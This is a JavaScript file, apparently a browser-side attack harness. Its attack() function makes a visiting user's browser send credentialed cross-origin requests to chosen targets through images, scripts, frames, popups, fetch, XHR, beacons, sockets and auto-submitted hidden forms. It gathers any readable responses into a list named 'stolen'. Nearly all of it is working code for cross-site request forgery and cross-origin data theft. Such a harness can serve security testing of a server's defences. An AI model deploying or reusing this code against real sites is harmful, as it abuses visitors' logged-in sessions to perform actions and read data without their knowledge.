// What a page can make its reader's browser send elsewhere. `attack(target)` tries all of it and tells what it could read.
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const atMost = (ms, promise) => Promise.race([promise, pause(ms)]);

function add(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes);
  for (const name of ['href', 'data']) if (attributes[name]) element.setAttribute(name, attributes[name]);
  const done = new Promise((resolve) => { element.onload = element.onerror = resolve; });
  document.body.append(element);
  return atMost(3000, done);
}

// --- reading, and writing by GET

const embedded = {
  img: (url) => add('img', {referrerPolicy: 'no-referrer', src: url}),
  imgWithReferrer: (url) => add('img', {referrerPolicy: 'unsafe-url', src: url}),
  imgCors: (url) => add('img', {crossOrigin: 'use-credentials', src: url}),
  script: (url) => add('script', {src: url}),
  module: (url) => add('script', {type: 'module', src: url}),
  style: (url) => add('link', {rel: 'stylesheet', referrerPolicy: 'no-referrer', href: url}),
  prefetch: (url) => add('link', {rel: 'prefetch', href: url}),
  preload: (url) => add('link', {rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: url}),
  video: (url) => add('video', {src: url}),
  object: (url) => add('object', {data: url}),
  embed: (url) => add('embed', {src: url}),
  background: async (url) => { document.body.style.backgroundImage = `url("${url}")`; },
  track: (url) => add('iframe', {referrerPolicy: 'no-referrer', src: url}),
};

async function fetched(url, options) {
  const answer = await fetch(url, {signal: AbortSignal.timeout(10000), ...options});
  return answer.type === 'opaque' || !answer.ok ? null : (await answer.text()) || '(an empty answer)';
}

function xhr(method, url, body, type) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    request.timeout = 10000;
    if (type) request.setRequestHeader('Content-Type', type);
    request.onloadend = () => resolve(request.status === 200 ? request.responseText : null);
    request.send(body);
  });
}

function opened(socket) {
  return new Promise((resolve) => {
    socket.onopen = () => { resolve('it is open'); socket.close(); };
    socket.onmessage = (event) => resolve(event.data);
    socket.onerror = () => { resolve(null); socket.close(); };
  });
}

async function framed(url) {
  const frame = Object.assign(document.createElement('iframe'), {src: url});
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  document.body.append(frame);
  await atMost(3000, loaded);
  return frame.contentDocument && frame.contentDocument.URL !== 'about:blank' ? frame.contentDocument.body.innerText : null;
}

async function popup(url) {
  const other = window.open(url, '_blank');
  await pause(1500);
  try { return other.document.URL === 'about:blank' ? null : other.document.body.innerText; } finally { other.close(); }
}

const readers = {
  cors: (url) => fetched(url, {mode: 'cors'}),
  corsWithCredentials: (url) => fetched(url, {mode: 'cors', credentials: 'include'}),
  corsNoReferrer: (url) => fetched(url, {mode: 'cors', referrerPolicy: 'no-referrer'}),
  corsWithHeader: (url) => fetched(url, {headers: {'X-Own': '1'}}),
  corsWithLogin: (url) => fetched(url, {headers: {Authorization: 'Basic dGVzdDp0ZXN0'}}),
  noCors: (url) => fetched(url, {mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer'}),
  xhr: (url) => xhr('GET', url),
  eventSource: (url) => opened(new EventSource(url, {withCredentials: true})),
  webSocket: (url) => opened(new WebSocket(url.replace('http', 'ws'))),
  framed, popup,
};

// --- writing with a body

function form(method, enctype, target, {url, fields, body}) {
  const made = Object.assign(document.createElement('form'), {method, enctype, target, action: url});
  made.setAttribute('rel', 'noreferrer');
  // A text that is no form's goes as the name of a field: text/plain then sends it as it is, but for a "=".
  for (const [name, value] of Object.entries(fields || {[body]: ''})) {
    const text = document.createElement('textarea');
    Object.assign(text, {name, value});
    made.append(text);
  }
  document.body.append(made);
  made.submit();
}

const inFrame = () => {
  const name = `frame${Math.random()}`;
  document.body.append(Object.assign(document.createElement('iframe'), {name}));
  return name;
};

const multipart = (fields) => {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) data.append(name, value);
  return data;
};

const writers = {
  noCorsText: (w) => fetched(w.url, {method: 'POST', mode: 'no-cors', body: w.body, referrerPolicy: 'no-referrer'}),
  noCorsForm: (w) => fetched(w.url, {method: 'POST', mode: 'no-cors', body: new URLSearchParams(w.fields)}),
  noCorsMultipart: (w) => fetched(w.url, {method: 'POST', mode: 'no-cors', body: multipart(w.fields)}),
  noCorsKeepalive: (w) => fetched(w.url, {method: 'POST', mode: 'no-cors', keepalive: true, body: w.body}),
  corsText: (w) => fetched(w.url, {method: 'POST', body: w.body}),
  corsJson: (w) => fetched(w.url, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: w.body}),
  corsCredentials: (w) => fetched(w.url, {method: 'POST', credentials: 'include', body: w.body}),
  put: (w) => fetched(w.url, {method: 'PUT', body: w.body}),
  delete: (w) => fetched(w.url, {method: 'DELETE'}),
  overridden: (w) => fetched(w.url, {method: 'POST', mode: 'no-cors', body: new URLSearchParams({_method: 'PUT', ...w.fields})}),
  xhrText: (w) => xhr('POST', w.url, w.body, 'text/plain'),
  xhrJson: (w) => xhr('POST', w.url, w.body, 'application/json'),
  beacon: async (w) => { navigator.sendBeacon(w.url, w.body); },
  beaconBlob: async (w) => { navigator.sendBeacon(w.url, new Blob([w.body], {type: 'application/json'})); },
  beaconForm: async (w) => { navigator.sendBeacon(w.url, multipart(w.fields)); },
  formGet: async (w) => form('get', '', inFrame(), w),
  formUrlencoded: async (w) => form('post', 'application/x-www-form-urlencoded', inFrame(), w),
  formMultipart: async (w) => form('post', 'multipart/form-data', inFrame(), w),
  formPlain: async (w) => form('post', 'text/plain', inFrame(), {...w, fields: null}),
  formInTab: async (w) => form('post', 'multipart/form-data', '_blank', w),
};

async function attempt(stolen, how, what, doing) {
  try {
    const read = await atMost(12000, doing());
    if (read) stolen.push(`${how} ${what}: ${String(read).slice(0, 120)}`);
  } catch (error) { /* the browser or the server has refused */ }
}

async function attack({reads, writes}) {
  const stolen = [], tries = [];
  for (const url of reads) {
    for (const [how, get] of Object.entries(embedded)) tries.push(attempt([], how, url, () => get(url)));
    for (const [how, get] of Object.entries(readers)) tries.push(attempt(stolen, how, url, () => get(url)));
  }
  for (const given of writes) {
    const write = {...given, body: given.body ?? new URLSearchParams(given.fields).toString(), fields: given.fields ?? {[given.body]: ''}};
    for (const [how, send] of Object.entries(writers)) tries.push(attempt(stolen, how, write.url, () => send(write)));
  }
  await Promise.all(tries);
  await pause(500);
  return stolen;
}
